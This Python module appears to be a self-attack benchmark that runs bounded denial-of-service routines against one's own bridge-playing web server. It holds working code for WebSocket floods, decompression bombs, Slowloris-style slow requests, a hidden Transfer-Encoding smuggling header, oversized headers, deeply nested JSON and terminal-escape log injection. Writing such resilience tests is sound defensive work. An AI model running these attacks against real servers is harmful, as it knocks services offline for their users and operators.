"""What attackers do to a web server of one's own: one to a few connections, one address.
Each is bounded by `Attack`: it rests and stops when it is told, and after some minutes anyway."""

from __future__ import annotations

import contextlib
import http.client
import json
import random
import socket
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from itertools import cycle
from typing import Any

from benchmarks.attack_site import Site

DEAL = "N:AKQJ.AKQ.AKQ.AKQ T987.JT9.JT9.JT9 6543.876.876.876 2.5432.5432.5432"
IMPOSSIBLE = {"script": "condition 1 == 2", "count": 5000}
_REFUSED = 0.002  # seconds until somebody who was hung up on calls again
_LONGEST = 300.0  # seconds, whatever happens


@dataclass
class Attack:
    """Threads that do one thing again and again until they are told to stop."""

    site: Site
    source: str
    stop: Any = field(default_factory=threading.Event)
    resting: Any = field(default_factory=threading.Event)
    met: Counter[str] = field(default_factory=Counter)
    began: float = field(default_factory=time.monotonic)
    tickets: list[dict[str, Any]] = field(default_factory=list)

    @property
    def over(self) -> bool:
        return self.stop.is_set() or time.monotonic() - self.began > _LONGEST

    @property
    def idle(self) -> bool:
        return self.over or self.resting.is_set()

    def again(self, deed: Callable[[], str], times: int, pause: float) -> list[threading.Thread]:
        def work() -> None:
            while not self.over:
                if self.resting.is_set():
                    self.stop.wait(0.05)
                    continue
                try:
                    self.met[deed()] += 1
                except Exception as error:  # whatever the server does to an attacker is counted
                    self.met[type(error).__name__] += 1
                    self.stop.wait(_REFUSED)
                self.stop.wait(pause)

        threads = [threading.Thread(target=work, daemon=True) for _ in range(times)]
        for thread in threads:
            thread.start()
        return threads

    def ask(self, path: str, body: Any = None, headers: Any = None) -> tuple[int, Any]:
        return self.site.ask(self.source, path, body, headers, timeout=30)

    def ticket(self) -> dict[str, Any]:
        """A seat at a table; one table does for all connections of an attack."""
        if not self.tickets:
            self.tickets.append(self.site.table(self.source))
        return self.tickets[0]

    def request(self, verb: str, path: str, *headers: str) -> bytes:
        lines = [f"{verb} {path} HTTP/1.1", f"Host: {self.site.host}", *headers, "", ""]
        return "\r\n".join(lines).encode()

    def socket(self, deflated: bool = False, joined: bool = True) -> socket.socket:
        """A table's socket on which any bytes can be sent."""
        ticket = self.ticket()
        line = self.site.line(self.source, 5.0)
        more = ["Sec-WebSocket-Extensions: permessage-deflate"] if deflated else []
        line.sendall(self.request(
            "GET", f"/api/tables/{ticket['table']}/socket", "Connection: Upgrade",
            "Upgrade: websocket", "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==", *more,
        ))  # fmt: skip
        told = line.recv(4000)
        if b" 101 " not in told:
            line.close()
            raise ConnectionError(told[9:12].decode() or "hung up")
        if joined:
            line.sendall(frame(1, json.dumps({"type": "join", "token": ticket["token"]}).encode()))
        return line

    def pour(self, open_: Callable[[], socket.socket], data: bytes, times: int = 2000) -> str:
        """The same bytes on one connection until it ends."""
        with open_() as line:
            for _ in range(times):
                if self.idle:
                    return "rested"
                line.sendall(data)
        return "all sent"


def frame(code: int, payload: bytes, fin: bool = True, packed: bool = False) -> bytes:
    """A frame whose mask is 0, so that it can be written down as it is."""
    first, size = code | 0x80 * fin | 0x40 * packed, len(payload)
    if size < 126:
        head = bytes([first, 0x80 | size])
    elif size < 1 << 16:
        head = bytes([first, 0xFE]) + size.to_bytes(2, "big")
    else:
        head = bytes([first, 0xFF]) + size.to_bytes(8, "big")
    return head + b"\0\0\0\0" + payload


# ---------------------------------------------------------------- bytes


def one_ping(attack: Attack) -> list[threading.Thread]:
    """Ping frames without end on one socket."""
    return attack.again(lambda: attack.pour(attack.socket, frame(9, b"") * 10_000), 1, 0.02)


def pings(attack: Attack) -> list[threading.Thread]:
    return attack.again(lambda: attack.pour(attack.socket, frame(9, b"") * 10_000), 8, 0.02)


def pongs(attack: Attack) -> list[threading.Thread]:
    return attack.again(lambda: attack.pour(attack.socket, frame(10, b"x" * 125) * 500), 4, 0.02)


def fragments(attack: Attack) -> list[threading.Thread]:
    """A message of empty pieces that never ends."""

    def begun() -> socket.socket:
        line = attack.socket()
        line.sendall(frame(1, b"", fin=False))
        return line

    return attack.again(lambda: attack.pour(begun, frame(0, b"", fin=False) * 10_000), 4, 0.02)


def strangers(attack: Attack) -> list[threading.Thread]:
    """Frames on sockets that never join a table."""

    def opened() -> socket.socket:
        return attack.socket(joined=False)

    return attack.again(lambda: attack.pour(opened, frame(9, b"x") * 5000), 8, 0.02)


def messages(attack: Attack) -> list[threading.Thread]:
    """Two thousand messages that mean nothing on each socket, and back again."""
    data = frame(1, b'{"type":"sudo"}') * 2000
    return attack.again(lambda: attack.pour(attack.socket, data, 1), 4, 0.0)


def trickle(attack: Attack) -> list[threading.Thread]:
    """Rubbish as slowly as it is borne, on as many windows as there can be."""

    def deed() -> str:
        with attack.socket() as line:
            for _ in range(400):
                if attack.idle:
                    break
                line.sendall(frame(1, b'{"type":"sudo"}'))
                time.sleep(0.055)
        return "sent"

    return attack.again(deed, 8, 0.1)


def long_messages(attack: Attack) -> list[threading.Thread]:
    data = frame(1, b'"' + b"x" * 60_000 + b'"')
    return attack.again(lambda: attack.pour(attack.socket, data), 4, 0.0)


def bombs(attack: Attack) -> list[threading.Thread]:
    """Small messages that are megabytes when they are unpacked."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -12)
    packed = packer.compress(b" " * (4 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)
    data = frame(1, packed[:-4], packed=True)
    return attack.again(lambda: attack.pour(lambda: attack.socket(True), data, 50), 4, 0.0)


def _chunked(attack: Attack) -> socket.socket:
    line = attack.site.line(attack.source)
    line.sendall(attack.request(
        "POST", "/api/review/read", "Content-Type: application/json", "Transfer-Encoding: chunked"
    ))  # fmt: skip
    return line


def one_in_pieces(attack: Attack) -> list[threading.Thread]:
    """A body in chunks of one byte on one connection."""
    data = b"1\r\n \r\n" * 10_000
    return attack.again(lambda: attack.pour(lambda: _chunked(attack), data), 1, 0.0)


def pieces(attack: Attack) -> list[threading.Thread]:
    data = b"1\r\n \r\n" * 10_000
    return attack.again(lambda: attack.pour(lambda: _chunked(attack), data), 8, 0.0)


def hidden_pieces(attack: Attack) -> list[threading.Thread]:
    """A body in chunks behind a head that hides its coding between lines that end in LF alone."""

    def opened() -> socket.socket:
        line = attack.site.line(attack.source)
        head = attack.request(
            "POST", "/api/review/read", "Content-Type: application/json", "Content-Length: 60000"
        )
        line.sendall(
            head.replace(b"\r\nContent-Type", b"\nTransfer-Encoding: chunked\r\nContent-Type")
        )
        return line

    return attack.again(lambda: attack.pour(opened, b"1\r\n \r\n" * 10_000), 8, 0.0)


def bytewise(attack: Attack) -> list[threading.Thread]:
    """A body of which every byte is sent by itself."""

    def deed() -> str:
        with attack.site.line(attack.source) as line:
            line.sendall(attack.request(
                "POST", "/api/review/read", "Content-Type: application/json",
                "Content-Length: 60000",
            ))  # fmt: skip
            for _ in range(60_000):
                if attack.idle:
                    break
                line.send(b" ")
        return "sent"

    return attack.again(deed, 8, 0.0)


def headers(attack: Attack) -> list[threading.Thread]:
    """Heads of 6,500 tiny headers."""
    data = attack.request("GET", "/api/health", *["a: b"] * 6500)

    def deed() -> str:
        with attack.site.line(attack.source) as line:
            line.sendall(data)
            return line.recv(100)[9:12].decode()

    return attack.again(deed, 8, 0.0)


def heads(attack: Attack) -> list[threading.Thread]:
    """Heads of which one line has 64 kB."""
    data = attack.request("GET", "/api/health", "Cookie: " + "c" * 65_000)

    def deed() -> str:
        with attack.site.line(attack.source) as line:
            line.sendall(data)
            return line.recv(100)[9:12].decode()

    return attack.again(deed, 8, 0.0)


def pipelined(attack: Attack) -> list[threading.Thread]:
    """Questions in a row that does not wait for answers."""

    def opened() -> socket.socket:
        line = attack.site.line(attack.source)
        threading.Thread(target=_swallow, args=(line,), daemon=True).start()
        return line

    data = attack.request("GET", "/api/health") * 200
    return attack.again(lambda: attack.pour(opened, data), 8, 0.0)


def _swallow(line: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while line.recv(1 << 16):
            pass


def upgrades(attack: Attack) -> list[threading.Thread]:
    """Sockets that are opened and left."""

    def deed() -> str:
        attack.socket().close()
        return "opened"

    return attack.again(deed, 8, 0.0)


def arrivals(attack: Attack) -> list[threading.Thread]:
    """Connections that say nothing and go, as fast as they can be made."""

    def deed() -> str:
        for _ in range(50):
            attack.site.line(attack.source).close()
        return "fifty"

    return attack.again(deed, 8, 0.0)


def slow(attack: Attack) -> list[threading.Thread]:
    """Bodies that come byte by byte, two a second, on as many lines as there can be."""
    lines: list[socket.socket] = []
    head = attack.request(
        "POST", "/api/review/read", "Content-Type: application/json", "Content-Length: 4000"
    )

    def deed() -> str:
        if len(lines) < 190:
            line = attack.site.line(attack.source)
            line.sendall(head)
            lines.append(line)
        line = random.choice(lines)
        try:
            line.send(b" ")
        except OSError:
            lines.remove(line)
            raise
        return "sent"

    return attack.again(deed, 8, 0.02)


def deep(attack: Attack) -> list[threading.Thread]:
    """Four megabytes of open brackets."""
    body = b'{"text":' + b"[" * 4_000_000

    def deed() -> str:
        return str(attack.ask("/api/review/read", body)[0])

    return attack.again(deed, 4, 0.0)


def wide(attack: Attack) -> list[threading.Thread]:
    """Two million pairs of brackets."""
    body = b'{"source":{"type":"random","x":[' + b"[]," * 1_300_000 + b"0]}}"

    def deed() -> str:
        return str(attack.ask("/api/tables", body)[0])

    return attack.again(deed, 4, 0.0)


def many_calls(attack: Attack) -> list[threading.Thread]:
    """Long texts where a word is expected, as long as a request may be."""
    body = json.dumps({"bidder": "x" * 3_900_000, "auction": "", "dealer": "N", "vul": "None"})

    def deed() -> str:
        return str(attack.ask("/api/decode", body.encode())[0])

    return attack.again(deed, 4, 0.0)


# ---------------------------------------------------------------- tables


def windows(attack: Attack) -> list[threading.Thread]:
    """Twenty-three windows at a table of sixty boards, coming and going."""
    boards = {"source": {"type": "random", "number": 1}, "boards": 60}

    def deed() -> str:
        if not attack.tickets:
            attack.tickets.append(attack.site.table(attack.source, **boards))
        with contextlib.closing(attack.socket()) as line:
            line.recv(60_000)
        return "came"

    return attack.again(deed, 23, 0.05)


def chat(attack: Attack) -> list[threading.Thread]:
    """Somebody who talks to twenty-three windows of his own."""
    said = frame(1, json.dumps({"type": "chat", "text": "x" * 400}).encode())

    def deed() -> str:
        with attack.socket() as line:
            threading.Thread(target=_swallow, args=(line,), daemon=True).start()
            for _ in range(400):
                if attack.idle:
                    break
                line.sendall(said)
                time.sleep(0.06)
        return "said"

    return attack.again(deed, 23, 0.2)


def undoing(attack: Attack) -> list[threading.Thread]:
    """Calls and undoing as fast as the server takes them."""

    def deed() -> str:
        ticket = attack.ticket()
        path = f"/api/tables/{ticket['table']}"
        key = {"Authorization": f"Bearer {ticket['token']}"}
        status, state = attack.ask(path, headers=key)
        done: dict[str, Any] = {"type": "undo"}
        if status == 200 and state.get("mine") and state["phase"] == "auction":
            done = {"type": "call", "call": "Pass", "at": state["at"]}
        return str(attack.ask(f"{path}/act", done, key)[0])

    return attack.again(deed, 6, 0.0)


def hints(attack: Attack) -> list[threading.Thread]:
    """Hints at twenty tables, again and again."""

    def deed() -> str:
        if len(attack.tickets) < 20:
            attack.tickets.append(attack.site.table(attack.source))
        ticket = random.choice(attack.tickets)
        key = {"Authorization": f"Bearer {ticket['token']}"}
        return str(attack.ask(f"/api/tables/{ticket['table']}/act", {"type": "hint"}, key)[0])

    return attack.again(deed, 8, 0.05)


def thinkers(attack: Attack) -> list[threading.Thread]:
    """Tables whose robots think for a long time."""
    strong = {"bidder": "bmcs", "player": "alphamu"}

    def deed() -> str:
        _, offers = attack.ask("/api/engines")
        chosen = {}
        for kind in ("bidder", "player"):
            specs = [offer["spec"] for offer in offers[f"{kind}s"]]
            chosen[kind] = next((s for s in specs if s.startswith(strong[kind])), specs[0])
        wish = {"ns": chosen, "ew": chosen, "source": {"type": "random", "number": 1}}
        status, ticket = attack.ask("/api/tables", wish)
        if status != 201:
            return str(status)
        with attack.site.window(attack.source, ticket) as window:
            for _ in range(30):
                if attack.idle:
                    break
                state = json.loads(window.recv(10))
                if state.get("mine") and state["phase"] == "auction":
                    window.send(json.dumps({"type": "call", "call": "Pass", "at": state["at"]}))
        return "played"

    return attack.again(deed, 6, 0.2)


def scripts(attack: Attack) -> list[threading.Thread]:
    """Ten tables at a time by a script that no deal fulfils."""
    body = {"source": {"type": "script", "text": "condition 1 == 2"}}
    return attack.again(lambda: str(attack.ask("/api/tables", body)[0]), 10, 0.05)


def cards(attack: Attack) -> list[threading.Thread]:
    """Tables with ever new convention cards, each of which has to be worked out."""
    switches = ("dont", "bergen", "drury", "texas", "gerber", "jordan", "mathe", "lebensohl")

    def deed() -> str:
        some = " ".join(random.choice("+-") + name for name in random.sample(switches, 4))
        own = {"bidder": f"rules(system='sayc {some}')", "player": "highest"}
        return str(attack.ask("/api/tables", {"ns": own, "ew": own})[0])

    return attack.again(deed, 6, 0.2)


# ---------------------------------------------------------------- questions


def abandoned(attack: Attack) -> list[threading.Thread]:
    """Sixty questions a second that take long, and nobody stays for the answer."""
    data = json.dumps(IMPOSSIBLE).encode()
    head = attack.request(
        "POST", "/api/deal", "Content-Type: application/json", f"Content-Length: {len(data)}"
    )

    def deed() -> str:
        with attack.site.line(attack.source) as line:
            line.sendall(head + data)
            time.sleep(0.02)
        return "sent"

    return attack.again(deed, 20, 0.3)


def studies(attack: Attack) -> list[threading.Thread]:
    """Sixteen who order deals that take a while, and wait."""
    wish = {"north": "hcp 20..24", "south": "hcp 15..17", "count": 200}
    return attack.again(lambda: str(attack.ask("/api/deal", wish)[0]), 16, 0.0)


def mute(attack: Attack) -> list[threading.Thread]:
    """Eleven hundred requests that are never finished."""
    lines: list[socket.socket] = []

    def deed() -> str:
        line = attack.site.line(attack.source)
        line.sendall(attack.request("GET", "/")[:-4] + b"\r\nX: ")
        lines.append(line)
        while len(lines) > 1100:
            lines.pop(0).close()
        return "sent"

    return attack.again(deed, 8, 0.05)


def deaf(attack: Attack) -> list[threading.Thread]:
    """Twenty windows that do not read, and an action after the other."""
    lines: list[socket.socket] = []

    def deed() -> str:
        ticket = attack.ticket()
        if len(lines) < 20:
            lines.append(attack.socket())
        path = f"/api/tables/{ticket['table']}"
        key = {"Authorization": f"Bearer {ticket['token']}"}
        status, state = attack.ask(path, headers=key)
        done: dict[str, Any] = {"type": "undo"}
        if status == 200 and state.get("mine") and state["phase"] == "auction":
            done = {"type": "call", "call": "Pass", "at": state["at"]}
        return str(attack.ask(f"{path}/act", done, key)[0])

    return attack.again(deed, 3, 0.02)


def upload(attack: Attack) -> list[threading.Thread]:
    """A small file in which every board repeats a long text of the first."""
    board = f'[Board "1"][Deal "{DEAL}"]'
    names = "".join(f'[{s} "##{"x" * 60_000}"]' for s in ("North", "East", "South", "West"))
    body = {"text": board + names + "\n\n" + (board + "\n\n") * 600}

    def deed() -> str:
        status, answer = attack.ask("/api/review/read", body)
        return f"{status}, {len(str(answer)) >> 20} MB"

    return attack.again(deed, 3, 0.1)


def evenings(attack: Attack) -> list[threading.Thread]:
    """Evenings of fifteen hundred boards."""
    boards = "".join(
        f'[Board "{i + 1}"][Dealer "N"][Vulnerable "None"][Deal "{DEAL}"]'
        f'[North "a{i % 9}"][East "b"][South "c"][West "d"][Declarer "N"][Contract "7NT"]'
        f'[Result "13"]\n\n'
        for i in range(1500)
    )
    return attack.again(lambda: str(attack.ask("/api/evenings", {"text": boards})[0]), 2, 0.5)


def foreign(attack: Attack) -> list[threading.Thread]:
    """Bytes that are no text, from a page of another site, with escapes for who reads the log."""
    strange = {"X-Forwarded-For": "\x1b[2J9.9.9.9", "User-Agent": "\x1b]0;x\x07"}

    def deed() -> str:
        return str(attack.ask("/api/deal", b'{"\xff": 1}', strange)[0])

    return attack.again(deed, 6, 0.02)


def flood(attack: Attack) -> list[threading.Thread]:
    """Pages, files and cheap questions as fast as they are answered, on lines that stay open."""
    paths = ("/static/app.js", "/", "/api/health", "/nothing", "/api/openapi.json")
    lines = threading.local()

    def deed() -> str:
        if getattr(lines, "line", None) is None:
            lines.line = attack.site.connection(attack.source, 30)
        try:
            given = {"Host": attack.site.host, "Accept-Encoding": "gzip"}
            lines.line.request("GET", random.choice(paths), headers=given)
            answer = lines.line.getresponse()
            answer.read()
            return str(answer.status)
        except (OSError, http.client.HTTPException):
            lines.line.close()
            lines.line = None
            raise

    return attack.again(deed, 8, 0.0)


def prints(attack: Attack) -> list[threading.Thread]:
    """Cards to print, asked as a page of another site would."""
    other = {"Sec-Fetch-Site": "cross-site"}
    return attack.again(lambda: str(attack.ask("/api/card/print", None, other)[0]), 8, 0.0)


def autoplay(attack: Attack) -> list[threading.Thread]:
    """Whole boards for robots to play, asked as programs ask, and abandoned."""
    deal = DEAL[2:].replace(" ", "%20").replace(".", "_")
    head = attack.request("GET", f"/autoplay?deal={deal}")

    def deed() -> str:
        with attack.site.line(attack.source) as line:
            line.sendall(head)
            time.sleep(0.02)
        return "sent"

    return attack.again(deed, 10, 0.3)


def entries(attack: Attack) -> list[threading.Thread]:
    """Entries in today's match, one after the other."""
    names = cycle("abcdef")

    def deed() -> str:
        return str(attack.ask("/api/contests/daily/enter", {"name": next(names)})[0])

    return attack.again(deed, 4, 0.02)


ATTACKS: dict[str, Callable[[Attack], list[threading.Thread]]] = {
    deed.__name__.replace("_", "-"): deed
    for deed in (
        one_ping, pings, pongs, fragments, strangers, messages, trickle, long_messages, bombs,
        one_in_pieces, pieces, hidden_pieces, bytewise, headers, heads, pipelined, upgrades,
        arrivals, slow, deep, wide, many_calls, windows, chat, undoing, hints, thinkers, scripts,
        cards, abandoned, studies, mute, deaf, upload, evenings, foreign, flood, prints, autoplay,
        entries,
    )
}  # fmt: skip
